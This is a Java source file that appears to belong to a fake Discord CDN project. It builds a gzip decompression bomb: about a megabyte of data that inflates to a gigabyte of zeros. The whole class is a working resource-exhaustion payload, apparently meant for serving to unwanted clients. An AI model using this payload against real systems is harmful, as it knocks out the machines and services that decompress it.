package io.cloakroom.discord.fake.cdn;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.util.zip.CRC32;
import java.util.zip.Deflater;

/** A megabyte of gzip that inflates to a gigabyte of nothing. Source: RFC 1951 and 1952. */
final class GzipBomb {
  private static final int MEBIBYTE = 1 << 20;
  private static final int TIMES = 1024;
  private static final byte[] HEADER = {0x1f, (byte) 0x8b, 8, 0, 0, 0, 0, 0, 0, 3};
  private static final byte[] LAST_BLOCK = {3, 0};

  private GzipBomb() {}

  /**
   * The same self-contained block over and over, which is much faster than compressing a gigabyte.
   */
  static byte[] bytes() {
    byte[] nothing = new byte[MEBIBYTE];
    byte[] block = block(nothing);
    CRC32 crc = new CRC32();
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes(HEADER);
    for (int i = 0; i < TIMES; i++) {
      out.writeBytes(block);
      crc.update(nothing);
    }
    out.writeBytes(LAST_BLOCK);
    ByteBuffer trailer = ByteBuffer.allocate(8).order(ByteOrder.LITTLE_ENDIAN);
    trailer.putInt((int) crc.getValue()).putInt(MEBIBYTE * TIMES);
    out.writeBytes(trailer.array());
    return out.toByteArray();
  }

  private static byte[] block(byte[] nothing) {
    Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
    try {
      deflater.setInput(nothing);
      byte[] buffer = new byte[8192];
      int length = deflater.deflate(buffer, 0, buffer.length, Deflater.FULL_FLUSH);
      return java.util.Arrays.copyOf(buffer, length);
    } finally {
      deflater.end();
    }
  }
}
